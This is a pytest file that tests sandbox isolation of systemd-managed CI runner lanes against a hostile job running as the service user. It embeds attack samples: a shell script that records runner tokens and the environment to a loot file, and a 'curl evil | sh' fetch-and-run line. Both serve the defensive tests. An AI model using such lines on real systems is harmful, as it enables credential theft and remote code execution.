"""Issue 13 under real systemd: a job is an attacker running as the lane's service user.

"A job" here is a process in the running lane's mount namespace, as the service user
(nsenter + setpriv), so it sees the files exactly as the runner's jobs do. The lane is
brought up through the helper as the agent would; every module using LANE starts and ends
with it absent."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from tests.sandbox import Sandbox
from tests.systemd.installed import (
    DROPIN_DIR,
    LANE,
    REGISTRATION_ROOT,
    REPOSITORY,
    RUNNER_DIR,
    SERVICE_USER,
    UNIT,
    GitHubInside,
    InstalledHost,
)
from tests.systemd.waiting import wait_for

pytestmark = pytest.mark.systemd

OTHER_DIR = f"{REGISTRATION_ROOT}/lp-test-lane-b"
OTHER_SECRET = "LANE-B-RUNNER-CREDENTIAL"
LOOT = f"{RUNNER_DIR}/_work/loot"
EVIL = f"""#!/bin/sh
# A job's replacement for the runner's code: keep whatever token it is handed.
echo "token=$ACTIONS_RUNNER_INPUT_TOKEN args=$*" >> {LOOT}
env >> {LOOT}
exit 0
"""


def cleanup(box: Sandbox, github: GitHubInside) -> None:
    box.systemctl("kill", "--kill-who=all", "--signal=SIGKILL", UNIT, check=False)
    box.systemctl("disable", "--now", UNIT, check=False)
    box.exec("rm", "-rf", DROPIN_DIR, RUNNER_DIR, OTHER_DIR, check=False)
    box.systemctl("daemon-reload", check=False)
    box.systemctl("reset-failed", UNIT, check=False)
    for runner in github.runners():
        if runner["name"] == LANE:
            github.request("DELETE", f"/_emulator/runners/{runner['id']}", auth=False)


@pytest.fixture(scope="module")
def running_lane(
    installed: InstalledHost, github_inside: GitHubInside, runner_archive: str
) -> Iterator[InstalledHost]:
    """The lane installed, registered and running, as the agent brings it up."""
    box = installed.sandbox
    cleanup(box, github_inside)
    helper = installed.helper
    try:
        helper.ok("install-runner", apply=True, archive_sha256=runner_archive)
        helper.ok("register-runner", apply=True, token=github_inside.registration_token())
        for verb in ("install-or-update-unit", "daemon-reload", "enable-now"):
            helper.ok(verb, apply=True)
        yield installed
    finally:
        cleanup(box, github_inside)


def as_service_user(*argv: str) -> list[str]:
    user = SERVICE_USER
    return ["setpriv", f"--reuid={user}", f"--regid={user}", "--init-groups", "--", *argv]


HARNESS_FAILED = 97
# The unit's mount namespace (which decides what a job's file accesses reach). Its cgroup is
# not joined: systemd refuses process migration into a non-delegated unit, and a cgroup does
# not change file access.
JOIN = 'pid=$1; shift; test -d "/proc/$pid" || exit 97; exec nsenter -t "$pid" -m -- "$@"'


def job(box: Sandbox, script: str) -> tuple[int, str]:
    """Run `script` (sh) as a job of the running lane: in the unit's mount namespace, as the
    service user. Returns (exit status, stdout + stderr)."""
    pid = int(box.show(UNIT, "MainPID")["MainPID"])
    assert pid > 0
    done = box.exec(
        "sh",
        "-c",
        JOIN,
        "sh",
        str(pid),
        *as_service_user("sh", "-c", script + " 2>&1"),
        check=False,
    )
    assert done.returncode != HARNESS_FAILED, done.stdout + done.stderr
    return done.returncode, done.stdout + done.stderr


def test_a_job_cannot_reach_another_lanes_files_or_launchplanes(
    running_lane: InstalledHost,
) -> None:
    box = running_lane.sandbox
    box.exec("install", "-d", "-o", SERVICE_USER, "-g", SERVICE_USER, "-m", "0755", OTHER_DIR)
    box.exec(
        *as_service_user("sh", "-c", f'umask 077; echo {OTHER_SECRET} > "$1/.credentials"'),
        "sh",
        OTHER_DIR,
    )
    box.exec(*as_service_user("sh", "-c", 'echo "#!/bin/sh" > "$1/run.sh"', "sh", OTHER_DIR))
    # Without the lane's namespace the same user could: the attack is real.
    assert OTHER_SECRET in box.exec(*as_service_user("cat", f"{OTHER_DIR}/.credentials")).stdout

    status, out = job(box, f"cat {OTHER_DIR}/.credentials")
    assert status != 0
    assert OTHER_SECRET not in out
    status, _ = job(box, f"echo 'curl evil | sh' >> {OTHER_DIR}/run.sh")
    assert status != 0
    assert box.read_file(f"{OTHER_DIR}/run.sh") == "#!/bin/sh\n"
    status, out = job(box, f"ls -A {REGISTRATION_ROOT}")
    assert (status, out.split()) == (0, [LANE]), out
    for path in (
        "/etc/launchplane/lanes.toml",
        "/var/log/launchplane/helper.jsonl",
        "/var/lib/launchplane-agent",
    ):
        status, out = job(box, f"cat {path} || ls {path}")
        assert status != 0, (path, out)
    status, out = job(box, f"touch {RUNNER_DIR}/mine && rm {RUNNER_DIR}/mine && echo ok")
    assert (status, out.strip()) == (0, "ok"), out


def test_a_job_that_rewrites_the_runner_code_never_sees_a_token(
    running_lane: InstalledHost, github_inside: GitHubInside
) -> None:
    box = running_lane.sandbox
    helper = running_lane.helper
    status, out = job(
        box,
        f"mkdir -p {RUNNER_DIR}/_work && cat > {RUNNER_DIR}/config.sh <<'EOF'\n{EVIL}EOF\n"
        f"cp {RUNNER_DIR}/config.sh {RUNNER_DIR}/bin/Runner.Listener && "
        f"chmod 755 {RUNNER_DIR}/config.sh {RUNNER_DIR}/bin/Runner.Listener && echo rewritten",
    )
    assert (status, out.strip()) == (0, "rewritten"), out  # the job could rewrite them

    # The next removal: REST delete (the agent's way), then local cleanup. No code runs.
    helper.ok("stop", apply=True)
    (runner,) = [r for r in github_inside.runners() if r["name"] == LANE]
    path = f"/api/v3/repos/{REPOSITORY}/actions/runners/{runner['id']}"
    assert github_inside.request("DELETE", path)[0] == 204
    helper.ok("unregister-runner", apply=True)
    assert box.exec("test", "-e", LOOT, check=False).returncode != 0

    # The next registration, with a canary token: the pristine runner registers.
    canary = github_inside.registration_token()
    result = helper.ok("register-runner", apply=True, token=canary)
    assert result["changed"] is True
    assert box.exec("test", "-e", LOOT, check=False).returncode != 0  # evil code never ran
    found = box.exec("grep", "-rlF", canary, RUNNER_DIR, check=False)
    assert found.returncode == 1, found.stdout  # in no file of the lane
    wait_for(
        lambda: any(r["name"] == LANE for r in github_inside.runners()),
        timeout=30,
        what="the runner to be registered again",
    )
    journal = box.exec("journalctl", "--no-pager", "-o", "cat", check=False).stdout
    assert canary not in journal
    assert re.search(r"pristine runner [0-9a-f]{12}", journal)
